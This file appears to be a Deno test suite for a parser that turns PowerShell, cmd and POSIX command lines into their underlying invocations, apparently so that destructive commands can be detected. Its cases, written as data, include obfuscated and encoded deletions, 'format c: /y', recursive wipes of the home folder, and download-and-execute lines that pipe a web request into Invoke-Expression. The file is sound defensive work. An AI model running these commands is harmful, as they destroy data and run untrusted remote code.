import assert from "node:assert/strict";
import { Buffer } from "node:buffer";
import type { Dialect } from "./model.ts";
import { list, understood } from "./listing.ts";

type Case = readonly [command: string, ...invocations: string[]];

const windowsHome = "C:\\Users\\kim";
const windows = { windows: true, home: windowsHome, cwd: "C:\\work\\app" } as const;

function encoded(text: string): string {
  return Buffer.from(text, "utf16le").toString("base64");
}

const powershell: readonly Case[] = [
  ["git status", "git status"],
  ["Remove-Item -Recurse -Force x", "remove-item -Recurse -Force x"],
  [
    "ri -r -fo x; RM x; del x; rmdir x",
    "remove-item -r -fo x",
    "remove-item x",
    "remove-item x",
    "remove-item x",
  ],
  ["R`emove-It`em x", "remove-item x"],
  ["Microsoft.PowerShell.Management\\Remove-Item x", "remove-item x"],
  [
    'rm $env:USERPROFILE\\x; rm "$HOME\\x"; rm ~\\x',
    `remove-item ${windowsHome}\\x`,
    `remove-item ${windowsHome}\\x`,
    `remove-item ${windowsHome}\\x`,
  ],
  ["gc 'a b.txt', c", `get-content "a b.txt,c"`],
  ["$d = 'C:\\x'; Remove-Item $d -Recurse", "remove-item C:\\x -Recurse"],
  ["Remove-Item $unknown", "remove-item «$unknown»"],
  ["Get-ChildItem | Remove-Item -Recurse", "get-childitem", "remove-item -Recurse …"],
  ["'a','b' | Remove-Item", "remove-item a b"],
  [
    "gci -r *.log | % { Remove-Item $_.FullName }",
    "get-childitem -r *.log",
    "foreach-object { Remove-Item $_.FullName }".replace(
      "{ Remove-Item $_.FullName }",
      `"{ Remove-Item $_.FullName }"`,
    ),
    "remove-item «$_.FullName»",
  ],
  ["iex 'rm x'", `invoke-expression "rm x"`, "remove-item x"],
  ['Invoke-Expression -Command "rm x"', `invoke-expression -Command "rm x"`, "remove-item x"],
  ["'rm x' | iex", "invoke-expression", "remove-item x"],
  ["iex (iwr https://e.com/x)", "invoke-webrequest https://e.com/x", "invoke-expression «(…)»"],
  ["& { rm x }", "remove-item x"],
  ["& 'C:\\Program Files\\Git\\bin\\git.exe' status", "git status"],
  ['& "rm" x', "remove-item x"],
  [". { rm x }", "remove-item x"],
  ["Invoke-Command -ScriptBlock { rm x }", `invoke-command -ScriptBlock "{ rm x }"`, "remove-item x"],
  ["if (Test-Path x) { rm x } else { rm y }", "test-path x", "remove-item x", "remove-item y"],
  ["foreach ($d in 'a', 'b') { rm $d }", "remove-item a", "remove-item b"],
  ["function f { rm x }; f", "remove-item x"],
  ["try { rm x } catch { rm y }", "remove-item x", "remove-item y"],
  ["cmd /c rd /s /q x", "cmd /c rd /s /q x", "rd /s /q x"],
  ['cmd.exe /d /c "del x & rd y"', `cmd /d /c "del x & rd y"`, "del x", "rd y"],
  ['powershell -NoProfile -Command "rm x"', `powershell -NoProfile -Command "rm x"`, "remove-item x"],
  ["pwsh -c { rm x }", `pwsh -c "{ rm x }"`, "remove-item x"],
  [`powershell -enc ${encoded("rm x")}`, `powershell -enc ${encoded("rm x")}`, "remove-item x"],
  ["[System.IO.Directory]::Delete('C:\\x', $true)", "remove-item C:\\x -Recurse -Force"],
  ['[IO.File]::Delete("$HOME\\x")', `remove-item ${windowsHome}\\x`],
  ["[System.IO.File]::WriteAllText('C:\\x', 'y')", "set-content C:\\x"],
  [
    "[void][IO.Directory]::Delete((Join-Path $HOME x), $true)",
    "join-path C:\\Users\\kim x",
    `remove-item ${windowsHome}/x -Recurse -Force`,
  ],
  [
    "(New-Object Net.WebClient).DownloadString('https://e.com') | iex",
    "new-object Net.WebClient",
    "invoke-webrequest https://e.com",
    "invoke-expression",
  ],
  [
    "Start-Process powershell -Verb RunAs -ArgumentList '-Command','rm x'",
    `start-process powershell -Verb RunAs -ArgumentList "-Command,rm x"`,
    "powershell -Command rm x",
    "remove-item x",
  ],
  ["Write-Output 'rm -Recurse C:\\'", `write-output "rm -Recurse C:\\\\"`],
  ["git commit -m 'Remove-Item x; rm y'", `git commit -m "Remove-Item x; rm y"`],
  ["# rm x", ...[]],
  ["<# rm x #> ls", "get-childitem"],
  ["Set-Content -Path x -Value @'\nrm -r y\n'@", `set-content -Path x -Value "rm -r y"`],
  ["bash -c 'rm -rf x'", `bash -c "rm -rf x"`, "rm -rf x"],
  [
    "python -c \"import shutil; shutil.rmtree('x')\"",
    `python -c "import shutil; shutil.rmtree('x')"`,
    "rm -rf x",
  ],
  ["echo a > C:\\x", "write-output a"],
  ["rm -rf x", "remove-item -rf x"],
  ["npm test 2>&1 | Select-String error", "npm test", "select-string error"],
  ["$x = Get-Content a; $x.Length", "get-content a"],
  ["Set-Alias zz Remove-Item; zz x", "set-alias zz Remove-Item", "remove-item x"],
];

const cmd: readonly Case[] = [
  ["git status", "git status"],
  ["rd /s /q x", "rd /s /q x"],
  ["rmdir/s/q x", "rmdir /s/q x"],
  ["del *.* /f /s /q", "del *.* /f /s /q"],
  ["d^el x", "del x"],
  ['del "a b" & copy a b && move c d || type e', `del "a b"`, "copy a b", "move c d", "type e"],
  ["del %USERPROFILE%\\x", `del ${windowsHome}\\x`],
  ["del %UNKNOWN%\\x", "del «%UNKNOWN%»\\x"],
  ["set D=C:\\x& rd /s %D%", "set D=C:\\x", "rd /s C:\\x"],
  ["if exist x (del x) else (del y)", "del x", "del y"],
  ["if not exist x del y", "del y"],
  ["for %i in (a b) do del %i", "del «%i»"],
  ['for /f "tokens=*" %i in (\'dir /b\') do del "%i"', "dir /b", "del «%i»"],
  ["echo del x", "echo del x"],
  ["rem del x", ...[]],
  ['powershell -Command "Remove-Item x"', `powershell -Command "Remove-Item x"`, "remove-item x"],
  ['cmd /c "del x"', `cmd /c "del x"`, "del x"],
  ["call del x", "del x"],
  ['start "" /b cmd /c del x', "cmd /c del x", "del x"],
  ['"C:\\Program Files\\Git\\bin\\bash.exe" -c "rm -rf x"', `bash -c "rm -rf x"`, "rm -rf x"],
  ["type a | findstr b", "type a", "findstr b"],
  ["format c: /y", "format c: /y"],
];

const posix: readonly Case[] = [
  ["powershell.exe -Command 'Remove-Item x'", `powershell -Command "Remove-Item x"`, "remove-item x"],
  ["cmd.exe /d /c 'rd /s /q x'", `cmd /d /c "rd /s /q x"`, "rd /s /q x"],
  ["cmd //c del x", "cmd //c del x", "del x"],
  [
    '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoProfile -c "rm x"',
    `powershell -NoProfile -c "rm x"`,
    "remove-item x",
  ],
  ["C:\\Windows\\System32\\cmd.exe /c 'del x'", `cmd /c "del x"`, "del x"],
  [
    "pwsh -NoLogo -Command 'bash -c \"rm x\"'",
    `pwsh -NoLogo -Command "bash -c "rm x""`,
    `bash -c "rm x"`,
    "rm x",
  ],
  ["echo 'Remove-Item x' | pwsh -Command -", `echo "Remove-Item x"`, "pwsh -Command -", "remove-item x"],
];

const all: readonly (readonly [Dialect, readonly Case[]])[] = [["powershell", powershell], ["cmd", cmd], [
  "posix",
  posix,
]];

for (const [dialect, cases] of all) {
  Deno.test(`understand: Windows shells from ${dialect}`, () => {
    const wrong: unknown[] = [];
    const loose = (line: string) => line.replaceAll("\\\\", "\\").replaceAll('\\"', '"');
    for (const [command, ...expected] of cases) {
      const got = list(command, { dialect, ...windows }).map(loose);
      if (JSON.stringify(got) !== JSON.stringify(expected.map(loose))) wrong.push({ command, got, expected });
    }
    assert.deepEqual(wrong, []);
  });
}

Deno.test("the dialect of an invocation is that of the text it stands in", () => {
  const [outer, inner] = understood("powershell -c 'rm x'").invocations;
  assert.deepEqual([outer?.dialect, inner?.dialect], ["posix", "powershell"]);
  const back = understood("bash -c 'rm x'", { dialect: "powershell" }).invocations;
  assert.deepEqual(back.map((one) => one.dialect), ["powershell", "posix"]);
});

Deno.test("the directory is tracked in the shells of Windows", () => {
  const last = (dialect: Dialect, command: string) => {
    const directory = understood(command, { dialect, ...windows }).invocations.at(-1)?.directory;
    return [directory?.path, ...directory?.alternatives ?? []];
  };
  assert.deepEqual(last("powershell", "cd C:\\x; rm y"), ["C:\\x", "C:\\work\\app"]);
  assert.deepEqual(last("powershell", "Set-Location -Path C:\\x && rm y"), ["C:\\x"]);
  assert.deepEqual(last("powershell", "cd $HOME; rm y"), [windowsHome]);
  assert.deepEqual(last("cmd", 'cd "C:\\x" & del *.*'), ["C:\\x", "C:\\work\\app"]);
  assert.deepEqual(last("cmd", "cd /d C:\\x && del *.*"), ["C:\\x"]);
  assert.deepEqual(last("cmd", "cd.. && del x"), ["C:\\work"]);
});

Deno.test("where there is no Windows, options of the program keep its name", () => {
  assert.deepEqual(list("rm -rf x; rm -Recurse y", { dialect: "powershell" }), [
    "rm -rf x",
    "remove-item -Recurse y",
  ]);
});

Deno.test("pipelines count their members", () => {
  const { invocations } = understood("a; b | c | d", { dialect: "powershell" });
  assert.deepEqual(invocations.map((one) => [one.pipeline.index, one.pipeline.length]), [[0, 1], [0, 3], [
    1,
    3,
  ], [2, 3]]);
});

Deno.test("code that cannot be known is a doubt", () => {
  const reasons = (dialect: Dialect, command: string) =>
    understood(command, { dialect }).doubts.map((one) => one.reason);
  assert.deepEqual(reasons("powershell", "iex $x"), ["unknown-code"]);
  assert.deepEqual(reasons("powershell", "powershell -enc '!!!'"), ["encoded-code"]);
  assert.deepEqual(reasons("cmd", "%X% y"), []);
  assert.deepEqual(reasons("powershell", "Get-ChildItem | Select-Object Name"), []);
});
